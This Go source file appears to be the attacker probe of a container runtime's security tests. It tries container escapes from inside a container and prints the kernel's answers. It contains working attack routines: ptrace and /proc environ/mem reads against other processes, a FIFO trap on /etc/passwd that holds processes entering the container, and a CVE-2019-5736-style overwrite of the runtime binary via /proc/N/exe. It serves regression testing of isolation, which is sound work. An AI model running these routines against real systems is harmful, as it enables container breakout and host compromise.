// Command probe is the attacker's toolkit of the security integration
// tests: a static binary placed in a container's rootfs that tries the
// escapes of /work/shared/reference/security-cases.md from inside and
// prints what the kernel answered, one "key: value" line per attempt.
//
// It is built by the tests (CGO_ENABLED=0) and never run on the host.
package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	// Syscalls made on purpose must come from the thread the seccomp
	// filter was loaded on (the main one): filters are per thread and
	// inherited only by threads created later.
	runtime.LockOSThread()
	if len(os.Args) < 2 {
		fatal("usage: probe COMMAND [ARGS]")
	}
	args := os.Args[2:]
	switch os.Args[1] {
	case "fds":
		fds()
	case "status":
		status()
	case "syscall":
		rawSyscall(args)
	case "attack":
		attack(atoi(arg(args, 0)))
	case "hold-attack":
		holdAttack(arg(args, 0), arg(args, 1))
	case "grab-exe":
		grabExe(arg(args, 0))
	case "keyring":
		keyring()
	case "setgroups":
		setgroups()
	case "getcwd":
		getcwd()
	case "write":
		writeFile(arg(args, 0))
	case "ids":
		ids()
	case "sleep":
		ready()
		time.Sleep(time.Hour)
	default:
		fatal("unknown command " + os.Args[1])
	}
}

func fatal(msg string) {
	fmt.Fprintln(os.Stderr, "probe:", msg)
	os.Exit(2)
}

func arg(args []string, i int) string {
	if i >= len(args) {
		fatal("missing argument")
	}
	return args[i]
}

func atoi(s string) int {
	n, err := strconv.ParseInt(s, 0, 64)
	if err != nil {
		fatal(err.Error())
	}
	return int(n)
}

// ready tells the test that the probe is in place.
func ready() {
	fmt.Println("ready")
}

// result names the outcome of one attempt: "ok" or the errno's name.
func result(err error) string {
	if err == nil {
		return "ok"
	}
	var errno unix.Errno
	if errors.As(err, &errno) {
		return unix.ErrnoName(errno)
	}
	return err.Error()
}

// fds prints "N -> target" for every open fd but the one listing them.
// It uses raw system calls only: the first os.Open would make the Go
// runtime open its poller's fds, which are not the runtime's leaks.
func fds() {
	dir, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		fatal(err.Error())
	}
	var nums []int
	buf := make([]byte, 8192)
	for {
		n, err := unix.ReadDirent(dir, buf)
		if err != nil {
			fatal(err.Error())
		}
		if n == 0 {
			break
		}
		var names []string
		_, _, names = unix.ParseDirent(buf[:n], -1, names)
		for _, name := range names {
			if fd := atoi(name); fd != dir {
				nums = append(nums, fd)
			}
		}
	}
	sort.Ints(nums)
	link := make([]byte, 4096)
	var out bytes.Buffer
	for _, fd := range nums {
		target := ""
		n, err := unix.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd), link)
		if err != nil {
			target = result(err)
		} else {
			target = string(link[:n])
		}
		fmt.Fprintf(&out, "%d -> %s\n", fd, target)
	}
	unix.Close(dir)
	// Straight to fd 1: os.Stdout could bring the runtime's poller up.
	if _, err := unix.Write(1, out.Bytes()); err != nil {
		os.Exit(3)
	}
}

// status prints the capability, no_new_privs and seccomp lines of
// /proc/self/status.
func status() {
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		fatal(err.Error())
	}
	for _, line := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(line, "Cap") || strings.HasPrefix(line, "NoNewPrivs") || strings.HasPrefix(line, "Seccomp") {
			fmt.Println(strings.Join(strings.Fields(line), " "))
		}
	}
}

// rawSyscall makes syscall NR with up to six numeric arguments and prints
// "ret N" or "errno N".
func rawSyscall(args []string) {
	if len(args) == 0 {
		fatal("syscall needs a number")
	}
	var a [6]uintptr
	for i, s := range args[1:] {
		a[i] = uintptr(atoi(s))
	}
	r, _, errno := unix.RawSyscall6(uintptr(atoi(args[0])), a[0], a[1], a[2], a[3], a[4], a[5])
	if errno != 0 {
		fmt.Printf("errno %d\n", int(errno))
		return
	}
	fmt.Printf("ret %d\n", int(r))
}

// attack tries everything a container process could do to another process
// of the container: ptrace it, read its environment, list and resolve its
// fds, and resolve its exe and cwd.
func attack(pid int) {
	p := fmt.Sprintf("/proc/%d", pid)
	fmt.Printf("ptrace: %s\n", result(unix.PtraceSeize(pid)))
	_, err := os.ReadFile(p + "/environ")
	fmt.Printf("environ: %s\n", result(err))
	_, err = os.ReadFile(p + "/mem")
	fmt.Printf("mem: %s\n", result(err))
	entries, err := os.ReadDir(p + "/fd")
	if err != nil {
		fmt.Printf("fd-list: %s\n", result(err))
	}
	for _, e := range entries {
		target, err := os.Readlink(p + "/fd/" + e.Name())
		if err == nil {
			fmt.Printf("fd %s: ok %s\n", e.Name(), target)
		} else {
			fmt.Printf("fd %s: %s\n", e.Name(), result(err))
		}
	}
	for _, link := range []string{"exe", "cwd", "root"} {
		target, err := os.Readlink(p + "/" + link)
		if err == nil {
			fmt.Printf("%s: ok %s\n", link, target)
		} else {
			fmt.Printf("%s: %s\n", link, result(err))
		}
	}
}

// otherPids lists the pids of the container other than 1 and ours.
func otherPids() []int {
	entries, _ := os.ReadDir("/proc")
	var pids []int
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err == nil && pid != 1 && pid != os.Getpid() {
			pids = append(pids, pid)
		}
	}
	return pids
}

// holdAttack turns the file fifo (normally /etc/passwd) into a FIFO, says
// ready, and waits for a process to open it for reading: that is a
// process entering the container, held in its user lookup before execve.
// It attacks that process, then writes content into the FIFO to let it go
// on.
func holdAttack(fifo, content string) {
	if err := os.Remove(fifo); err != nil && !os.IsNotExist(err) {
		fatal(err.Error())
	}
	if err := unix.Mkfifo(fifo, 0o644); err != nil {
		fatal(err.Error())
	}
	ready()
	var fd int
	for {
		var err error
		// Succeeds only once a reader has the FIFO open; the reader then
		// blocks in read(2) until we write.
		fd, err = unix.Open(fifo, unix.O_WRONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		if err == nil {
			break
		}
		if !errors.Is(err, unix.ENXIO) {
			fatal(err.Error())
		}
		time.Sleep(2 * time.Millisecond)
	}
	pids := otherPids()
	fmt.Printf("held: %d\n", len(pids))
	for _, pid := range pids {
		attack(pid)
	}
	if err := unix.SetNonblock(fd, false); err != nil {
		fatal(err.Error())
	}
	if _, err := unix.Write(fd, []byte(content)); err != nil {
		fatal(err.Error())
	}
	// The program the held process runs may read the file again: put a
	// regular file in place before the held process sees end of file.
	tmp := fifo + ".probe"
	if err := os.WriteFile(tmp, []byte(content), 0o644); err != nil {
		fatal(err.Error())
	}
	if err := os.Rename(tmp, fifo); err != nil {
		fatal(err.Error())
	}
	unix.Close(fd)
	fmt.Println("released")
	time.Sleep(time.Hour)
}

// grabExe watches for new processes for the given duration (or until
// SIGUSR1) and does what the CVE-2019-5736 exploit does: it opens
// /proc/N/exe of every new process with O_PATH and keeps it, then (also
// after the process is gone) tries to reopen it for writing and to write
// to it.
func grabExe(duration string) {
	d, err := time.ParseDuration(duration)
	if err != nil {
		fatal(err.Error())
	}
	stop := make(chan os.Signal, 1)
	signal.Notify(stop, unix.SIGUSR1)
	ready()
	seen := map[int]bool{}
	type grab struct {
		fd     int
		target string
		opened bool
	}
	var grabs []*grab
	deadline := time.Now().Add(d)
	stopped := func() bool {
		select {
		case <-stop:
			return true
		default:
			return false
		}
	}
	try := func(g *grab) {
		if g.opened {
			return
		}
		wfd, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", g.fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			return
		}
		g.opened = true
		_, werr := unix.Pwrite(wfd, []byte("pwned"), 0)
		fmt.Printf("opened %s for writing: write %s\n", g.target, result(werr))
		unix.Close(wfd)
	}
	for time.Now().Before(deadline) && !stopped() {
		for _, pid := range otherPids() {
			if seen[pid] {
				continue
			}
			fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			seen[pid] = true
			target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
			if filepath.Base(target) == "probe" {
				unix.Close(fd)
				continue
			}
			grabs = append(grabs, &grab{fd: fd, target: target})
		}
		for _, g := range grabs {
			try(g)
		}
	}
	targets := map[string]int{}
	for _, g := range grabs {
		try(g)
		targets[g.target]++
	}
	var names []string
	for t := range targets {
		names = append(names, t)
	}
	sort.Strings(names)
	for _, t := range names {
		fmt.Printf("grabbed %s: %d\n", t, targets[t])
	}
	fmt.Println("done")
}

// keyring prints the id of the session keyring (without creating one)
// and its description.
func keyring() {
	id, err := unix.KeyctlInt(unix.KEYCTL_GET_KEYRING_ID, unix.KEY_SPEC_SESSION_KEYRING, 0, 0, 0)
	if err != nil {
		fmt.Printf("keyring: %s\n", result(err))
		return
	}
	desc, err := unix.KeyctlString(unix.KEYCTL_DESCRIBE, id)
	if err != nil {
		desc = result(err)
	}
	fmt.Printf("keyring: %d %s\n", id, desc)
}

// setgroups tries to drop all supplementary groups.
func setgroups() {
	b, _ := os.ReadFile("/proc/self/setgroups")
	fmt.Printf("policy: %s\n", bytes.TrimSpace(b))
	_, _, errno := unix.RawSyscall(unix.SYS_SETGROUPS, 0, 0, 0)
	var err error
	if errno != 0 {
		err = errno
	}
	fmt.Printf("setgroups: %s\n", result(err))
}

// getcwd prints the working directory the kernel reports and the device
// and inode of ".".
func getcwd() {
	buf := make([]byte, 4096)
	n, err := unix.Getcwd(buf)
	if err != nil {
		fmt.Printf("getcwd: %s\n", result(err))
	} else {
		fmt.Printf("getcwd: %s\n", bytes.TrimRight(buf[:n], "\x00"))
	}
	var st unix.Stat_t
	if err := unix.Stat(".", &st); err != nil {
		fmt.Printf("stat: %s\n", result(err))
		return
	}
	fmt.Printf("stat: %d:%d\n", st.Dev, st.Ino)
}

// writeFile creates or truncates path and writes to it.
func writeFile(path string) {
	err := os.WriteFile(path, []byte("probe"), 0o644)
	fmt.Printf("write %s: %s\n", path, result(err))
}

// ids prints the real, effective and saved uid.
func ids() {
	var r, e, s int
	r, e, s = unix.Getresuid()
	fmt.Printf("uids: %d %d %d\n", r, e, s)
}
